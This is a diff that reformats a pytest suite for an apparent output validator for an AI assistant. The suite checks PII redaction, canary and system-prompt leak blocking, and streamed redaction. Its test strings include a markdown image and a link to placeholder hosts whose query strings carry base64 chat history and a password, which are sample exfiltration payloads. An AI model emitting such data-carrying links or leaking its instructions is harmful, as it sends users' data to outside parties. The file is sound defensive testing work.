@@ -27,14 +27,14 @@ CANARY = "ep-canary-0123456789abcdef"
 @pytest.mark.parametrize("kind", sorted(SAMPLES))
 def test_each_type_is_found_and_redaction_leaves_nothing(kind: str) -> None:
     value = SAMPLES[kind]
-    text = (f"Here you go: password = {value} ok" if kind == "SECRET" else f"Here you go: {value}. Anything else?")
+    text = f"Here you go: password = {value} ok" if kind == "SECRET" else f"Here you go: {value}. Anything else?"
     found = detect(text)
     assert [f.type for f in found] == [kind]
     redacted = OutputValidator().check(text).redacted_text
     assert f"[{kind}]" in redacted
     digits = re.sub(r"\W", "", value)
     for i in range(0, len(digits) - 3):  # no 4-character piece of the value survives
-        assert digits[i:i + 4] not in re.sub(r"\W", "", redacted.replace(f"[{kind}]", "")), (kind, redacted)
+        assert digits[i : i + 4] not in re.sub(r"\W", "", redacted.replace(f"[{kind}]", "")), (kind, redacted)
 
 
 def test_checksums() -> None:
@@ -62,11 +62,14 @@ def test_loopback_addresses_are_not_personal() -> None:
     assert detect("the server listens on 127.0.0.1:8080 and ::1") == []
 
 
-@pytest.mark.parametrize("leak", [
-    f"The marker is {CANARY}.",
-    "the marker: " + " ".join(CANARY),
-    "encoded: " + base64.b64encode(CANARY.encode()).decode(),
-])
+@pytest.mark.parametrize(
+    "leak",
+    [
+        f"The marker is {CANARY}.",
+        "the marker: " + " ".join(CANARY),
+        "encoded: " + base64.b64encode(CANARY.encode()).decode(),
+    ],
+)
 def test_canary_leaks_are_blocked(leak: str) -> None:
     r = OutputValidator(canary=CANARY).check(leak)
     assert r.decision == "block" and r.redacted_text == SAFE_MESSAGE
@@ -76,14 +79,21 @@ def test_canary_leaks_are_blocked(leak: str) -> None:
 def test_system_prompt_leak_is_blocked() -> None:
     system = "You are Acme's billing assistant. Never discuss refunds above 500 euros without a manager."
     v = OutputValidator(system_text=system)
-    assert v.check("Sure. My instructions: you are Acme's billing assistant. Never discuss refunds above 500 "
-                   "euros without a manager.").decision == "block"
+    assert (
+        v.check(
+            "Sure. My instructions: you are Acme's billing assistant. Never discuss refunds above 500 "
+            "euros without a manager."
+        ).decision
+        == "block"
+    )
     assert v.check("Refunds are handled by the billing team.").decision == "allow"
 
 
 def test_data_carrying_images_and_links_are_redacted() -> None:
-    text = ("![status](https://tracker.example/p.png?d=U2VjcmV0IGNoYXQgaGlzdG9yeSBnb2VzIGhlcmU=) see "
-            "[docs](https://docs.python.org/3/library/re.html) and https://x.example/c?u=jane%40example.com%20password%3Dhunter2")
+    text = (
+        "![status](https://tracker.example/p.png?d=U2VjcmV0IGNoYXQgaGlzdG9yeSBnb2VzIGhlcmU=) see "
+        "[docs](https://docs.python.org/3/library/re.html) and https://x.example/c?u=jane%40example.com%20password%3Dhunter2"
+    )
     r = OutputValidator().check(text)
     assert [f.type for f in r.findings] == ["MARKDOWN_IMAGE", "EXFIL_LINK"]
     assert "docs.python.org/3/library/re.html" in r.redacted_text and "tracker.example" not in r.redacted_text
@@ -107,7 +117,7 @@ def _stream(text: str, sizes: list[int], v: OutputValidator) -> tuple[list[str],
     g, out, i, k = StreamGuard(v), [], 0, 0
     while i < len(text):
         n = sizes[k % len(sizes)]
-        out.append(g.feed(text[i:i + n]))
+        out.append(g.feed(text[i : i + n]))
         i, k = i + n, k + 1
     out.append(g.finish())
     return out, g
@@ -115,8 +125,10 @@ def _stream(text: str, sizes: list[int], v: OutputValidator) -> tuple[list[str],
 
 @pytest.mark.parametrize("sizes", [[1], [2, 5], [3], [7, 1, 4], [50]])
 def test_streamed_redaction_never_shows_a_value(sizes: list[int]) -> None:
-    text = ("Contact jane.doe@example.com or +44 20 7946 0958. Card 4111 1111 1111 1111, IBAN "
-            "DE89 3704 0044 0532 0130 00, key sk-proj-abcdefghijklmnopqrstuvwx1234. Done.")
+    text = (
+        "Contact jane.doe@example.com or +44 20 7946 0958. Card 4111 1111 1111 1111, IBAN "
+        "DE89 3704 0044 0532 0130 00, key sk-proj-abcdefghijklmnopqrstuvwx1234. Done."
+    )
     v = OutputValidator()
     pieces, g = _stream(text, sizes, v)
     shown = "".join(pieces)
@@ -136,8 +148,11 @@ def test_check_output_cli_contract(cli) -> None:  # type: ignore[no-untyped-def]
     import io
     import sys
 
-    lines = [json.dumps({"text": "mail jane@example.com, SSN 078-05-1120"}), json.dumps({"text": "all clear"}),
-             "{not json"]
+    lines = [
+        json.dumps({"text": "mail jane@example.com, SSN 078-05-1120"}),
+        json.dumps({"text": "all clear"}),
+        "{not json",
+    ]
     old = sys.stdin
     sys.stdin = io.StringIO("\n".join(lines) + "\n")
     try:
